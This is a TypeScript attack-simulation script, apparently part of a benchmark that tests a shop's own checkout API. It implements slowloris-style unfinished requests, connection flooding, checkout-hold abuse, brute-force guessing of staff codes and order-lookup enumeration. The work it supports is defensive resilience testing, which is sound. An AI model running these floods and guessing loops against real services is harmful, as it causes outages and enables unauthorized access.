/**
 * One attack from its own machine, as closely as one computer can simulate it: a process with its own source address that runs until it is
 * killed. Its parent makes its payments at the provider. Run by the attacks benchmark.
 */
import { randomUUID } from 'node:crypto';
import { Agent, request } from 'node:http';
import { createConnection } from 'node:net';
import { text } from 'node:stream/consumers';
import { setTimeout as sleep } from 'node:timers/promises';
import * as z from 'zod/mini';

const { url, from, cart, fullCart, attack } = z
  .object({ url: z.string(), from: z.string(), cart: z.unknown(), fullCart: z.unknown(), attack: z.string() })
  .parse(JSON.parse(process.env['ATTACK'] ?? '{}'));
const { hostname, port } = new URL(url);

const CHECKOUT = '/api/stripe/create-checkout-session';
const agent = new Agent({ keepAlive: true, maxSockets: 120, localAddress: from });

interface Answer {
  readonly status: number;
  readonly json: Readonly<Record<string, unknown>>;
  readonly cookie: string;
}

let answered = 0;

const ask = async (path: string, body?: unknown, headers: Readonly<Record<string, string>> = {}): Promise<Answer> => {
  try {
    return await new Promise<Answer>((resolve, reject) => {
      const outgoing = request(`${url}${path}`, {
        method: body === undefined ? 'GET' : 'POST',
        agent,
        headers: { ...(body === undefined ? {} : { 'content-type': 'application/json' }), ...headers },
      });
      outgoing.once('error', reject).once('response', (incoming) => {
        text(incoming).then((whole) => {
          answered += 1;
          const cookie = (incoming.headers['set-cookie'] ?? []).map((one) => one.split(';', 1).join('')).join('; ');
          const isJson = incoming.headers['content-type']?.includes('json') === true;
          return resolve({ status: incoming.statusCode ?? 0, json: isJson ? JSON.parse(whole) : {}, cookie });
        }, reject);
      });
      outgoing.end(body === undefined ? undefined : JSON.stringify(body));
    });
  } catch {
    await sleep(100);
    return { status: 0, json: {}, cookie: '' };
  }
};

const FOREVER = { [Symbol.iterator]: () => ({ next: () => ({ done: false, value: undefined }) as const }) };

/** Runs this many workers, each of which repeats its work without a pause. */
const closedLoop = (workers: number, work: (index: number) => Promise<unknown>): void => {
  let index = 0;
  const one = async (): Promise<void> => {
    for (const _ of FOREVER) await work(index++);
  };
  for (let at = 0; at < workers; at += 1) void one();
};

const atRate = (perSecond: number, work: (index: number) => Promise<unknown>): void => {
  let index = 0;
  setInterval(() => void work(index++), 1_000 / perSecond);
};

const mint = async (): Promise<Readonly<Record<string, string>>> => {
  const { cookie } = await ask('/api/heartbeat', { sessionId: randomUUID(), cartItemCount: 1 });
  return cookie === '' ? {} : { cookie };
};

const start = async (headers: Readonly<Record<string, string>> = {}, what = cart): Promise<string | null> => {
  const { json } = await ask(CHECKOUT, what, headers);
  return typeof json['sessionId'] === 'string' ? json['sessionId'] : null;
};

const startAndCancel = async (headers: Readonly<Record<string, string>> = {}): Promise<void> => {
  const session = await start(headers);
  if (session !== null) await ask(`/api/checkout/${session}/cancel`, {}, headers);
};

/** Starts a checkout, and pays under its own name. @returns the order. */
const pay = async (): Promise<Answer['json'] | null> => {
  const session = await start(await mint());
  if (session === null) return null;
  process.send?.({ pay: session });
  for (let tries = 0; tries < 20; tries += 1) {
    const { status, json } = await ask(`/api/orders/by-session/${session}`);
    if (status === 200) return json;
    await sleep(250);
  }
  return null;
};

const payAndCancel = async (): Promise<void> => {
  const order = await pay();
  if (order === null) await sleep(250);
  else await ask(`/api/order-status/${String(order['hash'])}/cancel`, { pickupCode: order['pickup_code'] });
};

/** Separate connections, each with one message and then silence. */
const leaveOpen = (message: string): void => {
  const socket = createConnection({ port: Number(port), host: hostname, localAddress: from });
  socket.on('error', () => undefined).on('data', () => (answered += 1));
  socket.once('close', () => setTimeout(() => leaveOpen(message), 1_000));
  socket.write(message);
};

const UNFINISHED = [
  'POST /api/heartbeat HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 900\r\n\r\n{',
  `POST ${CHECKOUT} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 900\r\n\r\n{`,
  'GET /api/products HTTP/1.1\r\nHost: x\r\nX-Slow: ',
] as const;

const guess = (index: number): string => index.toString(36).padStart(6, '0').toUpperCase();
const phone = (index: number): string => String(5_550_000_000 + index);

const COMPLETE: readonly ((index: number) => Promise<unknown>)[] = [
  () => ask(`/api/estimate?items=${fullCartItems()}`),
  (index) => ask('/api/auth/staff', { code: guess(index) }),
  () => ask('/api/orders', undefined, { authorization: `Bearer ${'x'.repeat(43)}` }),
  () => mint(),
  (index) => ask(`/api/checkout/cs_made_up_${index}/cancel`, {}),
  (index) => ask(`/api/orders/by-session/cs_made_up_${index}`),
  () => ask(CHECKOUT, cart),
];

const fullCartItems = (): string => {
  const { items } = z.object({ items: z.array(z.object({ id: z.number(), quantity: z.number() })) }).parse(fullCart);
  return items.map(({ id, quantity }) => `${id}x${quantity}`).join(',');
};

const mintMany = (count: number) => Promise.all(Array.from({ length: count }, mint));

const ATTACKS: Readonly<Record<string, () => void | Promise<void>>> = {
  nothing: () => undefined,
  unfinished: () => {
    for (let at = 0; at < 900; at += 1) leaveOpen(UNFINISHED[at % UNFINISHED.length] ?? '');
  },
  connections: async () => {
    for (let at = 0; at < 10_000; at += 1) {
      leaveOpen('GET /api/queue-status HTTP/1.1\r\nHost: x\r\n\r\n');
      if (at % 100 === 0) await sleep(20);
    }
  },
  'complete-calls': () => closedLoop(120, async (index) => await COMPLETE[index % COMPLETE.length]?.(index)),
  holds: () => atRate(10, async () => await start({}, fullCart)),
  'holds-minted': async () => {
    const visitors = await mintMany(100);
    atRate(10, async (index) => await start(visitors[index % visitors.length], fullCart));
  },
  'start-and-cancel': () => atRate(16, async () => await startAndCancel()),
  'start-and-cancel-minted': async () => {
    const visitors = await mintMany(60);
    atRate(16, async (index) => await startAndCancel(visitors[index % visitors.length]));
  },
  'made-up-cancels': () => closedLoop(20, async (index) => await ask(`/api/checkout/cs_made_up_${index}/cancel`, {})),
  'made-up-cancels-minted': async () => {
    const visitors = await mintMany(20);
    closedLoop(20, async (index) => await ask(`/api/checkout/cs_made_up_${index}/cancel`, {}, visitors[index % visitors.length]));
  },
  'pay-and-cancel': () => closedLoop(4, payAndCancel),
  'pay-and-leave': () => atRate(2, pay),
  'wrong-words': () => closedLoop(20, async (index) => await ask('/api/word', { word: `green-dolphin-${index}` })),
  'wrong-codes': () => closedLoop(20, async (index) => await ask('/api/auth/staff', { code: guess(index) })),
  'look-ups': () => closedLoop(20, async (index) => await ask('/api/order-lookup', { emailOrPhone: phone(index) })),
};

process.on('SIGTERM', () => {
  process.send?.({ answered }, () => process.exit(0));
});
process.once('disconnect', () => process.exit(0));
await ATTACKS[attack]?.();
